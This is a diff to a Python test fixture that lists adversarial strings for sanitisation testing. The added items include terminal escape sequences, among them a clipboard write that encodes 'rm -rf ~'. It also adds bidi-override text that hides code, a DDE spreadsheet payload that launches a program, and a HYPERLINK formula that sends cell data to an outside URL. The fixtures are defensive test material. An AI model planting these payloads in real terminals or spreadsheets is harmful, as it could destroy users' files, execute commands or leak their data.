@@ -1,4 +1,4 @@
-"""Fifty texts that want to be more than text."""
+"""More than fifty texts that want to be more than text."""
 
 from __future__ import annotations
 
@@ -53,9 +53,30 @@ HIDDEN = [
     "\x1b[31m红\x1b[0m \x1b]0;标题\x07 \x1b[2J",
     "空\x00字节\x08退格\x7f删除\x9b31m",
     "标签\U000e0041\U000e0042\U000e007f",
+    "\x1b]8;;https://example.org\x1b\\点我\x1b]8;;\x1b\\",
+    "\x1b]52;c;cm0gLXJmIH4=\x07剪贴板\x1bP+q544e\x1b\\\x1b[6n",
+    "\u009b31m八位\u009d0;标题\u009c",
+    "真话\r假话",
+    "access \u202e\u2066// 若是管理员\u2069 \u2066",
+    "\u200eLRM\u200fRLM\u061cALM\u206a\u206f\ufff9",
 ]
 
-FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    '=HYPERLINK("https://example.org?x="&A1,"点我")',
+    "\t=1+1",
+    "\r=1+2",
+    "\n=1+3",
+    "  =1+4",
+    "\u3000=1+5",
+    "\u202e=1+6",
+    "\ufeff=1+7",
+    "\u200b=1+8",
+    "＝1+9",
+]
 
 LONG = "长" * 3_400_000
 """More than ten megabytes in one line."""
